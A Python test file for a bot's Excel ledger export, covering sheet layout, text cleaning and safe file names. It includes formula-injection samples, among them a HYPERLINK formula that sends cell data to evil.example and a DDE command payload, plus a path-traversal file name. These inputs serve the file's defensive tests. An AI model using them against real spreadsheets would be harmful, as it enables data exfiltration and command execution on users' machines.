"""The 台账 workbook: one row per assignment, frozen header, filter, cleaned text."""

from __future__ import annotations

import io
from datetime import UTC, date, datetime
from zoneinfo import ZoneInfo

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from bot.services import export
from bot.services.stats import Scope

from .ledger import AT, ZONE, random_world

HEADERS = {c: c.upper() for c in export.COLUMNS}


def row(note: str = "", title: str = "任务") -> tuple[export.LedgerRow, str]:
    return (
        export.LedgerRow(
            plan="SR",
            ref="SR-1",
            section="一、",
            title=title,
            unit="市卫健委",
            liaisons="张三、李四",
            milestone="2024年底 60%",
            due=date(2024, 12, 31),
            original_due=date(2024, 12, 31),
            status="in_progress",
            progress=40,
            last_report_at=datetime(2025, 1, 2, 3, 4, tzinfo=UTC),
            last_report_note=note,
            days_late=12,
        ),
        "in_progress",
    )


def test_clean_removes_what_openpyxl_refuses():
    assert export.clean("a\x00b\x07c\x1fd\te\nf\rg") == "abcd\te\nf\rg"
    assert export.clean(5) == 5 and export.clean(None) is None


def test_workbook_shape():
    rows = [row("进度\x00说明\x0b"), row(title="很长的标题" * 40), row()]
    data = export.workbook_bytes(
        rows,
        headers=HEADERS,
        status_label=lambda s: f"<{s}>",
        zone=ZoneInfo("Asia/Shanghai"),
        sheet_title="台账\x01",
    )
    ws = load_workbook(io.BytesIO(data)).active
    assert ws.title == "台账"
    assert [c.value for c in ws[1]] == [HEADERS[c] for c in export.COLUMNS]
    assert ws.max_row == 4 and ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == "A1:O4"  # through the evidence column
    assert ws["M2"].value == "进度说明"
    assert ws["J2"].value == "<in_progress>"
    assert ws["L2"].value == datetime(2025, 1, 2, 11, 4)  # local time in the sheet
    assert ws["H2"].value.date() == date(2024, 12, 31)
    assert ws.column_dimensions["D"].width == export.MAX_WIDTH  # capped
    assert 6 <= ws.column_dimensions["B"].width < 20


def test_empty_workbook_still_has_its_header():
    data = export.workbook_bytes(
        [], headers=HEADERS, status_label=str, zone=ZoneInfo("Asia/Shanghai"), sheet_title="x"
    )
    ws = load_workbook(io.BytesIO(data)).active
    assert ws.max_row == 1 and ws.freeze_panes == "A2"


async def test_ledger_rows_one_per_active_assignment(tmp_path):
    w = await random_world(tmp_path / "x.sqlite3", 7).write()
    async with w.session_maker() as s:
        rows = await export.ledger_rows(s, scope=Scope(), at=AT, zone=ZONE)
        plan_rows = await export.ledger_rows(s, scope=Scope(plan_id=1), at=AT, zone=ZONE)
    await w.engine.dispose()
    assert len(rows) == len(w.active())
    assert len(plan_rows) == len(w.active(plan_id=1))
    assert all(r.plan == "P1" for r, _ in plan_rows)
    assert export.file_name(AT, ZONE) == "台账-20250618.xlsx"


@pytest.mark.parametrize(
    ("scope", "word", "expected"),
    [
        ("SR", "台账", "台账-SR-20250618.xlsx"),
        ("市卫健委（上饶）", "台账", "台账-市卫健委（上饶）-20250618.xlsx"),
        ('a/b\\c:d*?"<>|e', "Ledger", "Ledger-a_b_c_d_e-20250618.xlsx"),
        ("../../etc passwd", "台账", "台账-etc_passwd-20250618.xlsx"),
        ("\x00\n", "台账", "台账-20250618.xlsx"),
        ("长" * 100, "台账", "台账-" + "长" * 40 + "-20250618.xlsx"),
    ],
)
def test_file_name_names_the_scope_safely(scope, word, expected):
    assert export.file_name(AT, ZONE, scope, word=word) == expected


# --- user text is text, never a formula (issue 10, finding 1) --------------------------------

TEXT_FIELDS = (
    "plan",
    "ref",
    "section",
    "title",
    "unit",
    "liaisons",
    "milestone",
    "last_report_note",
)
ATTACKS = (
    '=HYPERLINK("http://evil.example/?"&A2,"详情")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
    "#N/A",  # an error literal openpyxl would store as an error cell
    "#REF!",
)


def read_back(data: bytes):
    return load_workbook(io.BytesIO(data)).active


def workbook_of(texts: dict[str, str], status: str = "in_progress") -> bytes:
    base, _ = row()
    fields = {**base.__dict__, **texts}
    return export.workbook_bytes(
        [(export.LedgerRow(**fields), status)],
        headers=HEADERS,
        status_label=lambda s: s,
        zone=ZoneInfo("Asia/Shanghai"),
        sheet_title="台账",
    )


def text_cells(ws):
    """Every cell of the data row that holds text (the columns of TEXT_FIELDS and status)."""
    columns = [export.COLUMNS.index(f) + 1 for f in (*TEXT_FIELDS, "status")]
    return [ws.cell(row=2, column=c) for c in columns]


def test_formula_like_text_is_written_as_text():
    for attack in ATTACKS:
        ws = read_back(workbook_of(dict.fromkeys(TEXT_FIELDS, attack), status=attack))
        for cell in text_cells(ws):
            assert cell.data_type == "s", (attack, cell.coordinate, cell.data_type)
            assert cell.value == attack
        if attack[0] in "=+-@":
            # Excel's leading apostrophe: the cell stays text when someone edits it
            assert all(cell.quotePrefix for cell in text_cells(ws))


def test_plain_text_has_no_quote_prefix_and_numbers_stay_numbers():
    ws = read_back(workbook_of({"title": "建设区域医疗中心", "last_report_note": "进度 60%"}))
    assert ws["D2"].data_type == "s" and not ws["D2"].quotePrefix
    assert ws["K2"].value == 40 and ws["K2"].data_type == "n"  # progress
    assert ws["N2"].value == 12 and ws["N2"].data_type == "n"  # days late


def test_clean_removes_what_xml_cannot_carry():
    assert export.clean("a\ufffeb\uffffc") == "abc"
    assert export.clean("a\ud800b\udfffc") == "abc"  # lone surrogates
    assert export.clean("😀\U0010fffd") == "😀\U0010fffd"


def test_text_longer_than_a_cell_holds_is_cut():
    ws = read_back(workbook_of({"last_report_note": "长" * (export.MAX_CELL_TEXT + 10)}))
    assert ws["M2"].value == "长" * export.MAX_CELL_TEXT


ANY_TEXT = st.text(alphabet=st.characters(exclude_categories=()), max_size=40)  # surrogates too
ROW_TEXTS = st.lists(ANY_TEXT, min_size=len(TEXT_FIELDS) + 1, max_size=len(TEXT_FIELDS) + 1)


@given(ROW_TEXTS)
@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
def test_any_text_round_trips_as_the_same_text_never_a_formula(texts):
    *fields, status = texts
    ws = read_back(workbook_of(dict(zip(TEXT_FIELDS, fields, strict=True)), status=status))
    for cell, written in zip(text_cells(ws), texts, strict=True):
        expected = export.clean(written)
        assert cell.data_type != "f"
        if expected == "":
            assert cell.value in ("", None)
            continue
        assert cell.data_type == "s", (written, cell.data_type)
        assert cell.value == expected
        if export.clean(written) == written:
            assert cell.value == written


def test_ranking_sheet_writes_names_as_text():
    from bot.core.ranking import UnitScore, rank_units
    from bot.core.stats import Rate

    units = [
        UnitScore(1, "=1+1", 2, 1, 1, Rate(1, 2), Rate(2, 2)),
        UnitScore(2, "市财政局\x00", 1, 0, 0, Rate(0, 0), Rate(0, 0)),
    ]
    sheet = export.RankingSheet(
        title="排名", headers={c: c for c in export.RANKING_COLUMNS}, rows=rank_units(units)
    )
    data = export.workbook_bytes(
        [row()],
        headers=HEADERS,
        status_label=lambda s: s,
        zone=ZoneInfo("Asia/Shanghai"),
        sheet_title="台账",
        ranking=sheet,
    )
    ws = load_workbook(io.BytesIO(data))["排名"]
    assert ws["B2"].value == "=1+1" and ws["B2"].data_type == "s" and ws["B2"].quotePrefix
    assert ws["A3"].value == "—" and ws["B3"].value == "市财政局"
    assert ws["D2"].value == 0.5 and ws["D2"].number_format == "0.0%"
    assert ws["D3"].value is None and ws.freeze_panes == "A2"
